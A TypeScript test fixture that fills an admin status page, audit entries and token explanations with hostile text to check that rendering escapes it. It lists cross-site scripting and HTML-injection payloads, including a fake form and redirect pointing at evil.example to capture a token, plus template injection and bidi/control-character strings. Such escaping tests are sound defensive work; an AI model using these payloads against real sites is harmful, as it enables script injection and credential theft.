/** Texts that callers, tokens and providers may choose, and a status that has them in every place. */
import type { Status } from "../../src/admin/page/Status.ts"
import type { AuditEntry } from "../../src/audit/AuditEntry.ts"
import type { Explanation } from "../../src/explain/Explanation.ts"
import { now, standIn } from "../admin/page/standIn.ts"

/** By the kind of attack. */
export const attacks: Readonly<Record<string, string>> = {
  script: `<script>window.attacked = 1; alert(1)</script>`,
  image: `<img src="https://evil.example/x" onerror="window.attacked = 1">`,
  attribute: `" autofocus onfocus="window.attacked = 1" x="`,
  quote: `' onmouseover='window.attacked = 1`,
  svg:
    `</text></svg><svg onload="window.attacked = 1"><animate onbegin="window.attacked = 1" attributeName="x" dur="1s"/></svg>`,
  style: `</style><style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">`,
  frame: `<iframe src="https://evil.example/" srcdoc="<script>parent.attacked = 1</script>"></iframe>`,
  form: `</textarea></form><form action="https://evil.example/"><input name="token" autofocus>`,
  base: `<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">`,
  url: `javascript:window.attacked=1`,
  entity: `&lt;script&gt;window.attacked = 1&lt;/script&gt;`,
  template: "${window.attacked = 1}{{constructor.constructor('window.attacked = 1')()}}",
  comment: `--><!--><script>window.attacked = 1</script>`,
  bidi: "admin\u202Ereversed\u2066\u2069\u200F",
  control: "line\r\nbreak\u0000\u0007\u001B[31mred\u2028\u2029",
  marks: `Z${"\u0310\u0352\u0361".repeat(400)}`,
  wide: "\uFDFD".repeat(300),
  long: `start-${"x".repeat(200_000)}-end`,
  words: "word ".repeat(20_000),
  lone: "\uD800half\uDC00"
}

const all = Object.values(attacks)
const at = (index: number): string => all[index % all.length] ?? ""

/** A status with an attack in every place for a text from outside. */
export const hostileStatus = (): Status => {
  const status = standIn({ troubled: true })
  const [server] = status.servers
  const [provider] = status.providers
  if (server === undefined || provider === undefined) throw new Error("the status has no servers")
  return {
    ...status,
    servers: all.map((name, index) => ({
      ...server,
      name,
      upstream: at(index + 1),
      resource: at(index + 2),
      providers: [at(index + 3)],
      state: "failing",
      lastError: { at: now - 1_000, error: at(index + 4), detail: at(index + 5) }
    })),
    providers: all.map((name, index) => ({
      ...provider,
      name,
      type: at(index + 1),
      ready: false,
      state: index % 2 === 0 ? "unavailable" : at(index + 2),
      lastError: { at: now, error: at(index + 3), detail: at(index + 4) },
      keySets: [{
        source: at(index + 5),
        phase: at(index + 6),
        keys: [{ kid: at(index + 7), algorithms: [at(index + 8)] }],
        skipped: [{ name: at(index + 9), reason: at(index + 10) }],
        failures: 3,
        lastFailure: at(index + 11)
      }]
    })),
    rejections: all.map((detail, index) => ({
      reason: index === 0 ? "InvalidToken.Expired" : at(index),
      sinceStart: 1,
      lastHour: 1,
      last: { at: now, error: at(index), detail, server: at(index + 1), provider: at(index + 2) }
    })),
    warnings: all,
    settings: all.map((value, index) => ({
      name: at(index + 1),
      value: index % 3 === 0 ? value : index % 3 === 1 ? [value, value] : { [value]: value },
      source: "file"
    }))
  }
}

/** Decisions with an attack in every member. */
export const hostileEntries: ReadonlyArray<AuditEntry> = all.map((text, index): AuditEntry => ({
  time: "2026-11-30T14:30:00.000Z",
  trace_id: text,
  server: at(index + 1),
  client_address: at(index + 2),
  provider: at(index + 3),
  subject: at(index + 4),
  client: at(index + 5),
  session: at(index + 6),
  http_method: at(index + 7),
  method: at(index + 8),
  tool: at(index + 9),
  arguments: { [at(index + 10)]: at(index + 11) },
  decision: "denied",
  rule: index,
  missing_scopes: [at(index + 12)],
  error: at(index + 13),
  reason: at(index + 14),
  status: 403,
  duration_ms: 1
}))

/** An explanation with an attack in every text. */
export const hostileExplanation: Explanation = {
  server: at(0),
  token: { form: "jwt", length: 10 },
  provider: { name: at(1), type: at(2), chosenBy: at(3) },
  steps: all.map((found, index) => ({
    name: "audience",
    verdict: "fail",
    expected: at(index + 1),
    found,
    fix: at(index + 2)
  })),
  upstream: { headers: { [at(0)]: at(1) }, authContext: { [at(2)]: at(3), sub: null }, token: true },
  outcome: {
    decision: "rejected",
    step: "audience",
    reason: at(4),
    detail: at(5),
    response: { status: 401, error: at(6), description: at(7) }
  },
  clockDifference: -3
}
